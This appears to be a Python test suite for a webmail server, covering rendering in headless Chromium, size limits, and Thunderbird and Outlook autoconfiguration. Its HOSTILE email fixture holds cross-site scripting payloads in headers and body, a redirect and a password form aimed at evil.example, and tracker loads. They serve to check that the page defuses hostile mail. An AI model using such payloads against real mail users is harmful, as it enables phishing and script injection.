"""The web page in headless Chromium, over http and https."""
import base64
import pathlib
import smtplib
import subprocess
import unittest
import urllib.request

from tests.support.mailstead import Mailstead

HERE = pathlib.Path(__file__).parent
BOB, ALICE = "bob@hamburger.edu", "alice@crepes.fr"
# One transparent pixel.
PNG = base64.b64encode(base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==")).decode()
CREPES = f"""From: =?utf-8?Q?Alice_Cr=C3=AApe?= <alice@crepes.fr>
To: <{BOB}>
Subject: =?utf-8?Q?Cr=C3=AApes_=C3=A0_volont=C3=A9?=
Date: Mon, 2 Mar 2026 10:00:00 +0100
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=b

--b
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: base64

{base64.b64encode("Aimez-vous les crêpes? 薄餅".encode()).decode()}
--b
Content-Type: image/png; name=dot.png
Content-Transfer-Encoding: base64

{PNG}
--b--
"""
HOSTILE = f"""From: "<img src=x onerror=alert(2)>" <alice@crepes.fr>
To: <{BOB}>
Subject: <script>alert(1)</script>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><body onload="alert(3)"><p>Dear reader</p><p id=target>untouched</p>
<script>document.getElementById("target").innerText = "changed"; alert(4); top.location = "http://evil.example/"</script>
<img src="http://tracker.example/pixel.gif"><link rel=stylesheet href="http://tracker.example/a.css">
<form action="http://evil.example/"><input name=password></form></body></html>
"""


class Page(unittest.TestCase):
    def setUp(self):
        self.server = Mailstead(["hamburger.edu", "crepes.fr"], {BOB: "hungry", ALICE: "ketchup"}).start()
        self.addCleanup(lambda: self.server.__exit__(None, None, None))
        with smtplib.SMTP("127.0.0.1", self.server.port("smtp")) as smtp:
            for text in (CREPES, HOSTILE):
                smtp.sendmail("bounces@list.crepes.fr", [BOB], text.replace("\n", "\r\n"))

    def scenario(self, name, door="http"):
        done = subprocess.run(["node", HERE / "page.mjs", name, f"{door}://127.0.0.1:{self.server.port(door)}"], capture_output=True,
                              text=True, timeout=120, cwd=HERE)
        self.assertEqual(0, done.returncode, done.stdout + done.stderr + self.server.log.read_text()[-3000:])

    def test_reading(self):
        self.scenario("reading")

    def test_reading_over_https(self):
        self.scenario("reading", "https")

    def test_hostile_mail(self):
        self.scenario("hostile")

    def test_sending(self):
        self.scenario("sending")

    def test_security(self):
        self.scenario("security")

    def test_limits_and_errors(self):
        """Over-long fields, large bodies and unknown paths are answered, and the server goes on."""
        base = f"http://127.0.0.1:{self.server.port('http')}"

        def status(path, **options):
            try:
                return urllib.request.urlopen(urllib.request.Request(base + path, **options), timeout=10).status
            except urllib.error.HTTPError as error:
                return error.code
            except (ConnectionError, urllib.error.URLError):
                return 0  # the answer came, but urllib was still sending

        self.assertEqual(404, status("/nothing"))
        self.assertEqual(405, status("/login"))
        self.assertEqual(200, status("/healthz"))
        self.assertEqual(414, status("/" + "x" * 100_000))
        self.assertEqual(413, status("/login", data=b"x" * (8 << 20)))
        self.assertEqual(200, status("/healthz"))

    def test_autoconfig(self):
        """CLIENTS.md Thunderbird autoconfig: what it asks for, under both names."""
        base = f"http://127.0.0.1:{self.server.port('http')}"
        for path in ("/mail/config-v1.1.xml", "/.well-known/autoconfig/mail/config-v1.1.xml"):
            with urllib.request.urlopen(base + path + "?emailaddress=bob%40hamburger.edu", timeout=10) as answer:
                text = answer.read().decode()
            self.assertIn("<domain>hamburger.edu</domain>", text)
            self.assertIn(f"<port>{self.server.port('imaps')}</port>", text)
            self.assertIn(f"<port>{self.server.port('submissions')}</port>", text)

    def test_autodiscover(self):
        """What Outlook posts, in both spellings."""
        base = f"http://127.0.0.1:{self.server.port('http')}"
        posted = ('<Autodiscover xmlns="http://schemas.microsoft.com/exchange/autodiscover/outlook/requestschema/2006">'
                  f"<Request><EMailAddress>{BOB}</EMailAddress></Request></Autodiscover>").encode()
        for path in ("/autodiscover/autodiscover.xml", "/Autodiscover/Autodiscover.xml"):
            request = urllib.request.Request(base + path, data=posted, headers={"Content-Type": "text/xml"})
            with urllib.request.urlopen(request, timeout=10) as answer:
                text = answer.read().decode()
            self.assertIn(f"<LoginName>{BOB}</LoginName>", text)
            self.assertIn(f"<Port>{self.server.port('imaps')}</Port>", text)
            self.assertIn(f"<Port>{self.server.port('submissions')}</Port>", text)


if __name__ == "__main__":
    unittest.main()
